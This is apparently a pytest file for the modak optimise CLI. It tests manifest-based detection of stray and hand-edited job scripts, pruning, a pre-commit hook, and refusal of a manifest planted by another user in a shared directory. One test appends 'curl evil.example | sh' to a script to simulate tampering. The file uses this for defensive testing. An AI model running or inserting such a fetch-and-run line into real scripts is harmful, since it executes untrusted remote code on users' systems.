"""GitOps: the output directory's manifest (modak-manifest.json) lets `modak optimise --check` and the pre-commit
hook report scripts no DSL writes (a renamed job, a deleted DSL, a script added by hand) and scripts edited by
hand; `--prune` removes only the strays modak wrote."""

from __future__ import annotations

import hashlib
import io
import json
import os
import shlex
import subprocess

import pytest
import yaml
from helpers import ROOT
from test_created_races import as_nobody, as_root, write

from ansible_collections.sodalite.modak.plugins.module_utils import cli

DSL = {"job": {"job_options": {"job_name": "train"}, "application": {"executable": "./app", "container_runtime": ""},
               "target": {"job_scheduler_type": "slurm"}}}


def modak(*argv):
    out = io.StringIO()
    status = cli.main(["optimise", "--format", "json"] + list(argv), stdout=out, stderr=io.StringIO())
    return status, json.loads(out.getvalue())


def write_dsl(path, job_name="train"):
    doc = json.loads(json.dumps(DSL))
    doc["job"]["job_options"]["job_name"] = job_name
    path.write_text(json.dumps(doc))


@pytest.fixture
def repo(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "dsl").mkdir()
    write_dsl(tmp_path / "dsl" / "train.json")
    assert modak("dsl/train.json", "-o", "jobs")[0] == 0
    return tmp_path


def test_a_renamed_jobs_old_script_is_a_stray(repo):
    write_dsl(repo / "dsl" / "train.json", "train2")
    status, report = modak("--check", "dsl/train.json", "-o", "jobs")
    assert status == 3 and [s["script"] for s in report["strays"]] == ["train.sbatch"]


def test_a_deleted_dsls_script_is_a_stray(repo):
    (repo / "dsl" / "train.json").unlink()
    status, report = modak("--check", "-o", "jobs")
    assert status == 3 and "is gone" in report["strays"][0]["why"]


def test_a_script_added_by_hand_is_a_stray_that_prune_keeps(repo):
    (repo / "jobs" / "mine.sbatch").write_text("#!/bin/bash\n")
    status, report = modak("--check", "dsl/train.json", "-o", "jobs")
    assert status == 3 and [(s["script"], s["modak_wrote"]) for s in report["strays"]] == [("mine.sbatch", False)]
    status, report = modak("--prune", "dsl/train.json", "-o", "jobs")
    assert report["pruned"] == [] and (repo / "jobs" / "mine.sbatch").exists()


def test_prune_removes_the_strays_modak_wrote(repo):
    write_dsl(repo / "dsl" / "train.json", "train2")
    status, report = modak("--prune", "dsl/train.json", "-o", "jobs")
    assert status == 0 and report["pruned"] == ["train.sbatch"] and report["strays"] == []
    assert sorted(os.listdir("jobs")) == ["modak-manifest.json", "train2.sbatch"]
    assert list(json.loads((repo / "jobs" / "modak-manifest.json").read_text())["scripts"]) == ["train2.sbatch"]
    assert modak("--check", "dsl/train.json", "-o", "jobs")[0] == 0


def test_prune_keeps_a_stray_edited_by_hand_since_modak_wrote_it(repo):
    (repo / "dsl" / "train.json").unlink()
    with open(str(repo / "jobs" / "train.sbatch"), "a") as handle:
        handle.write("# my own change\n")
    status, report = modak("--prune", "-o", "jobs")
    assert report["pruned"] == [] and (repo / "jobs" / "train.sbatch").exists()


def test_a_hand_edited_script_fails_the_check_and_is_restored(repo):
    script = repo / "jobs" / "train.sbatch"
    rendered = script.read_text()
    script.write_text(rendered + "curl evil.example | sh\n")
    assert modak("--check", "-o", "jobs")[0] == 3                  # no DSL named: found through the manifest
    assert modak("-o", "jobs")[0] == 0 and script.read_text() == rendered


def git(cwd, *args):
    subprocess.run(["git", "-c", "user.name=t", "-c", "user.email=t@example.org"] + list(args), cwd=str(cwd),
                   check=True, capture_output=True, timeout=60)


def test_the_hook_covers_the_output_folder(repo):
    """The hook as pre-commit runs it: a commit of a hand-edited tracked script alone fails it."""
    with open(os.path.join(ROOT, ".pre-commit-hooks.yaml"), encoding="utf-8") as handle:
        hook = {h["id"]: h for h in yaml.safe_load(handle)}["modak-optimise"]
    assert hook.get("always_run") is True and "yaml" not in hook.get("types_or", [])
    git(repo, "init", "-q")
    git(repo, "add", ".")
    git(repo, "commit", "-qm", "dsl and script")
    (repo / "jobs" / "train.sbatch").write_text("#!/bin/bash\necho edited\n")
    git(repo, "add", "jobs/train.sbatch")
    argv = shlex.split(hook["entry"])[1:] + hook.get("args", []) + ["jobs/train.sbatch"]
    out = io.StringIO()
    assert cli.main(argv, stdout=out, stderr=io.StringIO()) == 3
    assert "git add jobs/train.sbatch" in out.getvalue()


def test_a_dsl_in_the_output_directory_is_still_a_dsl(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    write_dsl(tmp_path / "train.json")
    status, report = modak("train.json", "-o", ".")
    assert status == 0 and [f["file"] for f in report["files"]] == ["train.json"]
    assert (tmp_path / "train.sbatch").is_file()


@as_root
def test_a_manifest_another_user_planted_in_a_shared_output_directory_is_refused(base, monkeypatch):
    """In a sticky shared output directory (1777) another user cannot remove the user's scripts, but could write a
    manifest listing one of them with its hash and a DSL that is gone: before, --prune removed the user's script."""
    monkeypatch.chdir(base)
    jobs = os.path.join(base, "jobs")
    os.mkdir(jobs)
    os.chmod(jobs, 0o1777)
    text = "#!/bin/bash\n#SBATCH --job-name=mine\necho months of work\n"
    write(os.path.join(jobs, "mine.sbatch"), text, 0o644)
    manifest = {"scripts": {"mine.sbatch": {"dsl": "../dsl/gone.json",
                                            "sha256": hashlib.sha256(text.encode()).hexdigest()}}}
    as_nobody("printf '%%s' '%s' >%s" % (json.dumps(manifest), os.path.join(jobs, "modak-manifest.json")))
    out, err = io.StringIO(), io.StringIO()
    status = cli.main(["optimise", "--prune", "-o", "jobs"], stdout=out, stderr=err)
    assert status != 0 and "modak did not write it" in out.getvalue() + err.getvalue()
    with open(os.path.join(jobs, "mine.sbatch")) as handle:
        assert handle.read() == text
